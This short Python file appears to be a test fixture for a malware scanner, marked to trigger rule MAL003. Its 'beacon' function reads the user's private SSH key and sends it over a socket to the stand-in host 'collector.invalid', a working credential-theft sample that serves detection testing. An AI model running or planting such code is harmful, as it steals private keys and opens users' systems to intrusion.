# expect: MAL003
import os
import socket


def beacon():
    key = open(os.path.expanduser("~/.ssh/id_rsa")).read()
    s = socket.create_connection(("collector.invalid", 443))
    s.sendall(key.encode())
